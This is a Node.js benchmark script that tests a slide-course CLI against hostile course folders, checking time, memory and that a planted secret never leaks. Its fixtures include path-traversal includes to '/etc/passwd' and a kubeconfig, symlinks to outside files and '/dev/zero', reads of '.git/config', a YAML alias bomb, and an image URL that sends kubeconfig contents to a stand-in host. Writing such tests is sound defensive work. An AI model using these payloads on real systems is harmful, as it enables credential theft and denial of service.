// Hostile courses through the CLI (`render --json`, which loads and renders every slide):
// each must end in under 1 s and 300 MB, report problems, and print nothing from outside
// the course or from its `.git`. One fresh process per case and sample, as an author or a tool would run it.
//
// Usage: node bench/hostile.mjs [<folder holding dist/cli.js>] [--inspect]
//   --inspect runs `inspect` instead of `render`: for comparing with builds that predate `render`.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { emit, figure, log, summary } from './stats.mjs';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const folder = process.argv.slice(2).find((a) => !a.startsWith('--'));
const CLI = join(folder ?? ROOT, 'dist', 'cli.js');
const COMMAND = process.argv.includes('--inspect') ? 'inspect' : 'render';
const RUNS = 3;
const SECRET = 'token-hostile-bench-5e1f';

/** Each case: the files of a course (under <dir>/course) and the manifest or chapter to open. */
const CASES = [
  {
    name: 'chapter that includes itself five times',
    files: { 'slides/deck.yml': 'content:\n- self.md\n', 'slides/self.md': '# Self\n' + '@@INCLUDE[slides/self.md]\n'.repeat(5) },
  },
  {
    name: 'includes, entries and links to files outside the course',
    files: {
      'slides/deck.yml': 'content:\n- ../../secret/kubeconfig\n- /etc/passwd\n- steal.md\n',
      'slides/steal.md': '# Steal\n\n<img src="https://collect.invalid/?c=@@INCLUDE[../secret/kubeconfig]">\n\n[key](/etc/passwd) ![x](../../secret/kubeconfig)\n',
    },
  },
  {
    name: 'symlinks to a file outside the course and to /dev/zero',
    files: { 'slides/deck.yml': 'content:\n- link.md\n- zero.md\n- /dev/zero\n' },
    links: { 'slides/link.md': '../../secret/kubeconfig', 'slides/zero.md': '/dev/zero' },
  },
  {
    name: 'YAML alias bomb in content (295 bytes, 9^7 entries)',
    files: {
      'slides/deck.yml': readFileSync(join(ROOT, 'test', 'fixtures', 'hostile', 'alias-bomb.yml'), 'utf8'),
      'slides/x.md': '# X',
    },
  },
  {
    name: '40,000 "<div " in 200 KB of raw HTML',
    // Not a mistake to report: the text is shown as text.
    clean: true,
    files: { 'slides/deck.yml': 'content:\n- divs.md\n', 'slides/divs.md': '# Divs\n\n' + '<div '.repeat(40000) + '\n' },
  },
  {
    name: '20,000 small labs in one slide',
    files: {
      'slides/deck.yml': 'content:\n- labs.md\n',
      'slides/labs.md': '# Labs\n' + Array.from({ length: 20000 }, (_, i) => `.lab[\n\`\`\`bash echo ${i}\`\`\`\n]`).join('\n') + '\n',
    },
  },
  {
    name: 'includes, entries, links and images into .git, directly and through a symlink',
    files: {
      'slides/deck.yml': 'content:\n- ../.git/config\n- config.md\n- git.md\n',
      'slides/git.md': '# Git\n\n@@INCLUDE[.git/config]\n\n[cfg](../.git/config) ![x](../.git/config)\n',
    },
    links: { 'slides/config.md': '../.git/config' },
  },
  {
    name: '60,000 unclosed fences',
    files: { 'slides/deck.yml': 'content:\n- fences.md\n', 'slides/fences.md': '# Fences\n\n' + '```bash\n'.repeat(60000) },
  },
  {
    name: '50,000 one-line fences on one line',
    clean: true,
    files: { 'slides/deck.yml': 'content:\n- line.md\n', 'slides/line.md': '# Line\n\n' + '```bash echo x``` '.repeat(50000) + '\n' },
  },
  {
    name: '50,000 one-line fences on one line, in a lab',
    files: { 'slides/deck.yml': 'content:\n- lab.md\n', 'slides/lab.md': '# Lab\n\n.lab[\n' + '```bash echo x``` '.repeat(50000) + '\n]\n' },
  },
  {
    name: '4 MB of "x\\n---\\n" (699,000 slides)',
    files: { 'slides/deck.yml': 'content:\n- slides.md\n', 'slides/slides.md': 'x\n---\n'.repeat(699000) },
  },
  {
    name: '2,000 backtick runs that never close (2 MB)',
    clean: true,
    files: { 'slides/deck.yml': 'content:\n- ticks.md\n', 'slides/ticks.md': '# Ticks\n\n' + Array.from({ length: 2000 }, (_, i) => '`'.repeat(2000 - i)).join(' ') + '\n' },
  },
  {
    name: 'fan-out includes (5 per level, 9 levels)',
    files: Object.fromEntries([
      ['slides/deck.yml', 'content:\n- l0.md\n'],
      ['slides/l0.md', '# Fan-out\n' + '@@INCLUDE[slides/l1.md]\n'.repeat(5)],
      ...Array.from({ length: 9 }, (_, i) => [`slides/l${i + 1}.md`, `level ${i + 1}\n` + `@@INCLUDE[slides/l${i + 2}.md]\n`.repeat(5)]),
      ['slides/l10.md', 'bottom'],
    ]),
  },
];

function makeCourse(dir, testCase) {
  const course = join(dir, 'course');
  mkdirSync(join(course, '.git'), { recursive: true });
  writeFileSync(join(course, '.git', 'config'), `[remote "origin"]\n  url = https://me:${SECRET}@example.invalid/fork\n`);
  mkdirSync(join(dir, 'secret'), { recursive: true });
  writeFileSync(join(dir, 'secret', 'kubeconfig'), `users:\n- user:\n    token: ${SECRET}\n`);
  for (const [name, text] of Object.entries(testCase.files)) {
    mkdirSync(dirname(join(course, name)), { recursive: true });
    writeFileSync(join(course, name), text);
  }
  for (const [name, target] of Object.entries(testCase.links ?? {})) symlinkSync(target, join(course, name));
  return join(course, 'slides', 'deck.yml');
}

const figures = [];
const notes = [];
const failures = [];
for (const testCase of CASES) {
  const dir = mkdtempSync(join(tmpdir(), 'bench-hostile-'));
  try {
    const deck = makeCourse(dir, testCase);
    const times = [];
    const cpu = [];
    const memory = [];
    let problems = 0;
    for (let run = 0; run < RUNS; run++) {
      const t0 = performance.now();
      const r = spawnSync(process.execPath, ['--require', join(ROOT, 'bench', 'max-rss.cjs'), CLI, COMMAND, deck, '--json'], {
        encoding: 'utf8',
        maxBuffer: 1 << 30,
        timeout: 20_000,
      });
      times.push(performance.now() - t0);
      memory.push(Number(/maxrss-kb (\d+)/.exec(r.stderr)?.[1] ?? NaN) / 1024);
      cpu.push(Number(/cpu-us (\d+)/.exec(r.stderr)?.[1] ?? NaN) / 1000);
      if (r.status !== 0 && r.status !== 1) failures.push(`${testCase.name}: exit ${r.status ?? r.signal}`);
      if (r.stdout.includes(SECRET)) failures.push(`${testCase.name}: the output holds text from outside the course or from .git`);
      try {
        problems = JSON.parse(r.stdout).problems.length;
      } catch {
        failures.push(`${testCase.name}: no JSON output`);
      }
    }
    if (problems === 0 && !testCase.clean) failures.push(`${testCase.name}: no problem reported`);
    log(`${testCase.name}: ${summary(times).median.toFixed(0)} ms (CPU ${summary(cpu).median.toFixed(0)} ms), ${summary(memory).median.toFixed(0)} MB, ${problems} problems`);
    figures.push(figure(`Hostile course: ${testCase.name}, CLI ${COMMAND}`, summary(times), 'ms', 1000));
    // On a loaded machine the wall time mostly measures waiting; the CPU time does not.
    figures.push(figure(`Hostile course: ${testCase.name}, CPU time (user + system)`, summary(cpu), 'ms'));
    figures.push(figure(`Hostile course: ${testCase.name}, peak memory`, summary(memory), 'MB', 300));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
notes.push(`Hostile courses: each case is a fresh \`node dist/cli.js ${COMMAND} <deck> --json\` (${RUNS} samples); none printed text from outside the course or from its \`.git\`.`);
if (failures.length) notes.push(...failures.map((f) => `Hostile course FAILED: ${f}`));
emit({ figures, notes });
if (failures.length) process.exit(1);
